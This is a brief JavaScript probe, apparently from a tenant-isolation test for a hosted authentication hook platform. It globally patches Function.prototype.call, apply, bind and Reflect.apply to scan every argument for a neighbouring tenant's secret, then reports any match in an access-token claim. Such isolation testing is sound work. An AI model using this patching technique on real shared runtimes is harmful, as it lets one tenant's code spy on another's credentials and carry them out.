// outcome: completed; later found=[]; beside served
const found = new Set()
const isSecret = (text) => typeof text === 'string' && text.includes('bystander-')
/** Whether a value, or something in it, is the neighbour's secret. */
const look = (value, where, depth = 3) => {
  if (isSecret(value)) found.add(where)
  if (depth === 0 || typeof value !== 'object' || value === null) return
  const keys = Reflect.ownKeys(value)
  for (let i = 0; i < keys.length && i < 40; i++) {
    const { value: part } = Reflect.getOwnPropertyDescriptor(value, keys[i]) ?? {}
    look(part, where, depth - 1)
  }
}
const { apply, call, bind } = Function.prototype
const reflect = Reflect.apply
exports.onExecuteCredentialsExchange = async () => {
  const patch = (original, where) =>
    function (...args) {
      look(args, where)
      return reflect(original, this, args)
    }
  Function.prototype.call = patch(call, 'call')
  Function.prototype.apply = patch(apply, 'apply')
  Function.prototype.bind = patch(bind, 'bind')
  Reflect.apply = (target, self, args) => {
    look(args, 'Reflect.apply')
    return reflect(target, self, args)
  }
}
exports.report = async (_event, api) => api.accessToken.setCustomClaim('found', Array.from(found))
